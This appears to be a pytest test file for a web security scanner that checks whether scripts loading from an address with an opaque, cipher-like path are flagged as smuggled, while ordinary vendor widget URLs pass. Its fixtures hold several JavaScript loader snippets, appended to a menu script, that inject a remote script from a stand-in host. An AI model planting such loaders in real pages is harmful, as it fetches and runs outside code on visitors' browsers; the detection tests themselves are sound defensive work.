"""Scripts that load from an address which is nothing but a cipher, and how vendors' look."""

from __future__ import annotations

import pytest

from cyberscan.checks._content.scripts.proof import is_ciphered
from cyberscan.model.verdict import Outcome
from tests.checks.content.scripting import in_file, on_page

MENU = "jQuery(function($){$('.menu li').on('mouseenter',function(){$(this).addClass('buka')})});\n"
LOAD = (
    ";(function(d,t,u){{var s=d.createElement(t),f=d.getElementsByTagName(t)[0];s.async=1;s.src=u;"
    "f.parentNode.insertBefore(s,f)}})(document,'script','{0}');"
)
PLAIN = "var s=document.createElement('script');s.src='{0}';document.head.appendChild(s);"
JQUERY = "$('<script>',{{src:'{0}'}}).appendTo('head');"
HOST = "https://niaga.tenun-bahari.example/"

CIPHERED = {
    "at the end of a menu": (LOAD, "Qm7x+Ze4TnV0aLkYb2sRw9PdHu1cJfGoXi8=", "file"),
    "in a file by itself": (LOAD, "u8Nf2Kc0WqYtE5vLzPj7RbA3/xGmHs1dQo4=", "file"),
    "in the page": (LOAD, "Zp3kV9wLx1QbT6nRj0sYc8MdFg2hAe5u+o7i", "page"),
    "put at the head": (PLAIN, "aB4cD8eF1gH5iJ9kL2mN6oP0qR3sT7uVwQ==", "page"),
    "longer": (PLAIN, "Wd8sQ1zX5cV9bN3mK7jH2gF6dS0aP4oI8uY1tR5eW9qL3kJ7hG+fD2sA6zXc", "file"),
    "of 16 octets": (LOAD, "3q2+7wAbCdEf5678Zy/XwQ==", "page"),
}
VENDORS = {
    "a customer's key in hexadecimal": "widget/4f1c9a7be02d4c55a1f8b3d6e0972c1a",
    "a path of words": "embed/MulaiObrolan2/PenggunaBaru",
    "a file": "xK3VbQ71mAeHq0fWd9RtpJz5cYhLgUo2nE0a.js",
    "a key as the query": "w.js?k=Qm7xZe4TnV0aLkYb2sRw9PdHu1cJfGoXi8=",
    "an identifier of letters and digits": "5f3c2Ab9Kd81Lq0ZxWe7Rt6Y",
    "a key behind a word": "v2/Qm7xZe4TnV0aLkYb2sRw9PdHu1cJfGoXi8==/muat.min.js",
    "nothing": "",
    "digits": "1029384756+5647382910=",
}


@pytest.mark.parametrize("name", CIPHERED)
def test_a_cipher_for_an_address_is_smuggled_in(name: str) -> None:
    how, path, where = CIPHERED[name]
    source = MENU + how.format(HOST + path)
    verdict = in_file(source) if where == "file" else on_page(source)
    assert verdict.message == "smuggled"


@pytest.mark.parametrize("how", [LOAD, PLAIN, JQUERY])
@pytest.mark.parametrize("name", VENDORS)
def test_vendors_addresses_are_not(name: str, how: str) -> None:
    source = MENU + how.format(HOST + VENDORS[name])
    assert not is_ciphered(HOST + VENDORS[name])
    assert in_file(source).outcome is on_page(source).outcome is Outcome.PASS


def test_a_cipher_on_the_office_s_own_host_is_its_firewall_s() -> None:
    source = LOAD.format("https://www.contohkab.go.id/Qm7x+Ze4TnV0aLkYb2sRw9PdHu1cJfGoXi8=")
    assert on_page(source).outcome is Outcome.PASS
